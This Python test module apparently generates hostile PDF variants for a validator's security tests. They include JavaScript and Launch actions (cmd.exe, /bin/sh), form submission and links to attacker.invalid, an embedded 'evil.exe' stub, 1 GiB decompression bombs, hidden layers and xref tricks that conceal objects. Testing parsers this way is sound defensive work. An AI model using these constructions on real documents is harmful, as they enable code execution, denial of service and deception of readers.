"""Hostile variants of a valid one-page PDF/A-2 document (SECURITY.md §5 and §7, PDF)."""

from __future__ import annotations

import io
import re
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String


def _edit(base: bytes, fn, **save_kw) -> bytes:
    with pikepdf.open(io.BytesIO(base)) as pdf:
        fn(pdf)
        out = io.BytesIO()
        pdf.save(out, static_id=True, **save_kw)
        return out.getvalue()


def _action(kind: str, **kw) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name("/" + kind), **kw)


def _open_action(action):
    def fn(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(action)
    return fn


def _page_aa(pdf):
    pdf.pages[0].obj.AA = Dictionary(O=_action("Launch", F=String("cmd.exe")))


def _names_js(pdf):
    js = pdf.make_indirect(_action("JavaScript", JS=String("app.alert(1)")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), js])))


def _annot(subtype: str, **kw):
    def fn(pdf):
        annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=Array([0, 0, 595, 842]),
                                             F=4, **kw))
        pdf.pages[0].obj.Annots = Array([annot])
    return fn


def _embedded(pdf):
    fs = pikepdf.AttachedFileSpec(pdf, b"MZ evil", filename="evil.exe")
    pdf.attachments["evil.exe"] = fs


def _xfa(pdf):
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)


def _incremental(base: bytes) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(base)) as pdf:
        pdf.Root.Lang = String("en")
        pdf.save(out, static_id=True)
    # A real incremental update: the new body appended after %%EOF of the original.
    m = re.search(rb"startxref\s+(\d+)", base[::-1][:0] or base[-64:])
    prev = int(m.group(1)) if m else 0
    n = _max_obj(base) + 1
    body = (f"{n} 0 obj\n<< /Type /Annot /Subtype /Text /Rect [0 0 10 10] /Contents (added later) >>\nendobj\n").encode()
    start = len(base)
    xref_pos = start + len(body)
    xref = f"xref\n{n} 1\n{start:010d} 00000 n \ntrailer\n<< /Size {n + 1} /Prev {prev} /Root 1 0 R >>\nstartxref\n{xref_pos}\n%%EOF\n"
    return base + body + xref.encode()


def _max_obj(pdf: bytes) -> int:
    return max(int(x) for x in re.findall(rb"(\d+) 0 obj", pdf))


def _flate_bomb(pdf):
    comp = zlib.compressobj(9)
    data = b"".join(comp.compress(b"\0" * (1 << 20)) for _ in range(1024)) + comp.flush()
    s = pikepdf.Stream(pdf, data)
    s.Filter = Name.FlateDecode
    pdf.pages[0].obj.Contents = Array([pdf.pages[0].obj.Contents, pdf.make_indirect(s)])


def _bomb_bytes() -> bytes:
    """1 GiB of zeros, deflated (about 1 MB)."""
    comp = zlib.compressobj(9)
    return b"".join(comp.compress(b"\0" * (1 << 20)) for _ in range(1024)) + comp.flush()


def _xmp_bomb(base: bytes) -> bytes:
    """/Metadata is a Flate stream of 1 GiB. qpdf always writes the XMP stream uncompressed, so the bomb goes
    in under a key of the same length, renamed in the bytes (the offsets stay right; no object streams, so the
    catalog is in the bytes)."""
    def fn(pdf):
        s = pikepdf.Stream(pdf, b"")
        s.write(_bomb_bytes(), filter=Name.FlateDecode)
        s.Type, s.Subtype = Name.Metadata, Name.XML
        pdf.Root.Metadatx = pdf.make_indirect(s)
    data = _edit(base, fn, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    refs = re.compile(rb"/Metadat([ax])( \d+ \d+ R)")
    assert sorted(m.group(1) for m in refs.finditer(data)) == [b"a", b"x"], "catalog not found in the bytes"
    return refs.sub(lambda m: b"/Metadat" + (b"a" if m.group(1) == b"x" else b"y") + m.group(2), data)


def _type1_bomb(pdf):
    """A Type 1 font with no /Encoding (its program's built-in encoding applies) whose /FontFile inflates to
    1 GiB, drawn on the page, in a document that claims PDF/A-2u (whose ToUnicode rule reads that encoding)."""
    ff = pikepdf.Stream(pdf, b"")
    ff.write(_bomb_bytes(), filter=Name.FlateDecode)
    ff.Length1, ff.Length2, ff.Length3 = 1 << 20, 1 << 29, 0
    fd = Dictionary(Type=Name.FontDescriptor, FontName=Name.Bomb, Flags=32, FontBBox=Array([0, 0, 500, 700]),
                    ItalicAngle=0, Ascent=700, Descent=0, CapHeight=700, StemV=80, FontFile=pdf.make_indirect(ff))
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Bomb, FirstChar=65,
                                        LastChar=65, Widths=Array([500]), FontDescriptor=pdf.make_indirect(fd)))
    page = pdf.pages[0].obj
    page.Resources.Font = Dictionary(FB=font)
    pdf.pages[0].contents_add(pdf.make_stream(b"BT /FB 12 Tf 10 10 Td (A) Tj ET"))
    # our documents claim 2U already (pdfmake/finish.py); the case is void if that ever changes
    xmp = pdf.Root.Metadata.read_bytes()
    assert re.search(rb"<pdfaid:conformance[^>]*>U<|pdfaid:conformance=[\"']U", xmp), "the document no longer claims PDF/A-2u"


def _hidden_layer(print_only: bool):
    """A full black page in an optional content group: off by default, or on screen and off on paper
    (its usage dictionary). Viewers that ignore optional content show it either way."""
    def fn(pdf):
        usage = Dictionary(Print=Dictionary(PrintState=Name.OFF), View=Dictionary(ViewState=Name.ON))
        ocg = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("secret"), **({"Usage": usage} if print_only else {})))
        d = Dictionary(Name=String("default"), Order=Array([ocg]))
        if not print_only:
            d.OFF = Array([ocg])
        pdf.Root.OCProperties = Dictionary(OCGs=Array([ocg]), D=d)
        page = pdf.pages[0]
        page.obj.Resources.Properties = Dictionary(oc1=ocg)
        page.contents_add(pdf.make_stream(b"/OC /oc1 BDC 0 g 0 0 595 842 re f EMC"))
    return fn


def _text_field(pdf):
    """A text field whose value says one thing and whose appearance draws another (a black box)."""
    ap = pdf.make_stream(b"0 g 0 0 100 20 re f")
    ap.Type, ap.Subtype, ap.BBox = Name.XObject, Name.Form, Array([0, 0, 100, 20])
    w = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("plea"),
                                     V=String("guilty"), Rect=Array([0, 0, 100, 20]), F=4, AP=Dictionary(N=ap),
                                     P=pdf.pages[0].obj))
    pdf.pages[0].obj.Annots = Array([w])
    pdf.Root.AcroForm = Dictionary(Fields=Array([w]))


def _content_ops_bomb(pdf):
    """8 M "q" operators in one Flate content stream (16 MB decoded, ~16 KB deflated): pikepdf's parser held
    them whole (2.2 GB in the checker, 2.3 GB more in the image checks) before the operator limit was looked at."""
    s = pikepdf.Stream(pdf, b"")
    s.write(zlib.compress(b"q\n" * 8_000_000, 9), filter=Name.FlateDecode)
    pdf.pages[0].obj.Contents = Array([pdf.pages[0].obj.Contents, pdf.make_indirect(s)])


def _encrypt(base: bytes) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(base)) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(owner="o", user="", R=6))
    return out.getvalue()


def _no_xmp(pdf):
    del pdf.Root.Metadata


def _cyclic_pages(pdf):
    pages = pdf.Root.Pages
    pages.Kids.append(pages)
    pages.Count = 2


def _deep_arrays(base: bytes, depth: int = 100_000) -> bytes:
    n = _max_obj(base) + 1
    obj = f"{n} 0 obj\n".encode() + b"[" * depth + b"]" * depth + b"\nendobj\n"
    i = base.rindex(b"xref")
    # put the object inline before the xref; the xref offsets are now wrong, which strict open refuses too
    return base[:i] + obj + base[i:]


def _rebody(base: bytes, extra: bytes, *, listed=(), at: int | None = None) -> bytes:
    """`base` with raw bytes put into its body (before the xref, or at offset `at`) and a new classic xref
    written from the object headers found: an object number defined twice keeps the xref entry of its later
    definition; objects numbered above base's /Size are listed only if named in `listed`."""
    i = base.rindex(b"\nxref\n") + 1
    body = base[:i] + extra if at is None else base[:at] + extra + base[at:i]
    size = int(re.search(rb"/Size (\d+)", base[i:]).group(1))
    offs = {int(m.group(1)): m.start() for m in re.finditer(rb"(?m)^(\d+) 0 obj", body)}
    n = max(max(offs) + 1, size)
    rows = [b"%010d 00000 n \n" % offs[k] if k in offs and (k < size or k in listed) else b"0000000000 65535 f \n"
            for k in range(n)]
    rows[0] = b"0000000000 65535 f \n"
    trailer = re.sub(rb"/Size \d+", b"/Size %d" % n, re.search(rb"trailer (<<.*>>)", base, re.S).group(1))
    return body + b"xref\n0 %d\n" % n + b"".join(rows) + b"trailer " + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % len(body)


def _hidden_objects(base: bytes) -> list[tuple[str, bytes]]:
    """Objects that one reading of the file does not see (red team, issue 19; AC-UNACCOUNTED)."""
    n = _max_obj(base) + 1
    exe = b"MZ\x90\x00 an executable nobody checks"
    orphan = b"%d 0 obj\n<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (n, len(exe), exe)
    js = b"%d 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n" % n
    contents = int(re.search(rb"/Contents (\d+) 0 R", base).group(1))
    black = b"0 g 0 0 595 842 re f"
    twin = b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (contents, len(black), black)
    return [
        ("orphan-embedded-file-stream", _rebody(base, orphan, listed=(n,))),
        ("object-not-in-xref", _rebody(base, js)),
        # a second page content with the same number, before the real one: a reader that rebuilds the xref by
        # scanning takes one, the table the other
        ("object-defined-twice", _rebody(base, twin, at=base.index(b"1 0 obj"))),
        ("bytes-between-objects", _rebody(base, b"hidden text that belongs to no object\n")),
    ]


def variants(base: bytes):
    """(id, expected code, bytes) for every hostile variant."""
    yield "openaction-javascript", "D004", _edit(base, _open_action(_action("JavaScript", JS=String("app.alert(1)"))))
    yield "names-javascript", "D004", _edit(base, _names_js)
    yield "page-aa-launch", "D004", _edit(base, _page_aa)
    yield "openaction-launch", "D004", _edit(base, _open_action(_action("Launch", F=String("/bin/sh"))))
    yield "link-uri", "D004", _edit(base, _annot("Link", A=_action("URI", URI=String("http://attacker.invalid/"))))
    yield "submitform", "D004", _edit(base, _open_action(_action("SubmitForm", F=String("http://attacker.invalid/"))))
    yield "gotor", "D004", _edit(base, _open_action(_action("GoToR", F=String("other.pdf"), D=Array([0, Name.Fit]))))
    yield "gotoe", "D004", _edit(base, _open_action(_action("GoToE", D=Array([0, Name.Fit]))))
    yield "richmedia", "D004", _edit(base, _annot("RichMedia"))
    yield "xfa", "D004", _edit(base, _xfa)
    yield "embedded-file", "D004", _edit(base, _embedded)
    yield "junk-before-header", "D004", b"<html>junk</html>\n" + base
    yield "zip-appended", "D004", base + b"PK\x03\x04" + b"\0" * 26 + b"PK\x05\x06" + b"\0" * 18
    m = re.search(rb"startxref\s+(\d+)", base[-64:])
    yield "bad-startxref", "D004", base[:-64] + base[-64:].replace(m.group(1), str(int(m.group(1)) + 7).encode())
    i = base.rindex(b"\nxref\n") + 6
    yield "garbled-xref", "D004", base[:i] + base[i:i + 80].replace(b"0", b"x") + base[i + 80:]
    yield "truncated", "D004", base[: len(base) * 2 // 3]
    yield "incremental-update", "D004", _incremental(base)
    yield "deep-nesting", "D004", _deep_arrays(base)
    yield "cyclic-page-tree", "D001", _edit(base, _cyclic_pages)
    yield "flate-bomb-1gib", "D001", _edit(base, _flate_bomb)
    yield "xmp-bomb-1gib", "D001", _xmp_bomb(base)  # the PDF/A claim is read before any check (issue 19)
    yield "type1-fontfile-bomb-1gib", "D001", _edit(base, _type1_bomb)
    yield "optional-content-off", "D004", _edit(base, _hidden_layer(False))  # red team, issue 19
    yield "optional-content-print-off", "D004", _edit(base, _hidden_layer(True))
    yield "text-field-value-vs-appearance", "D004", _edit(base, _text_field)
    yield "content-ops-bomb-8m", "D001", _edit(base, _content_ops_bomb)  # parsed only within max_stream_tokens (issue 19)
    yield "encrypted", "D003", _encrypt(base)
    yield "not-a-pdf", "D001", b"GIF89a not a pdf at all"
    yield "no-pdfa-claim", "D002", _edit(base, _no_xmp)
    for cid, pdf in _hidden_objects(base):
        yield cid, "D004", pdf
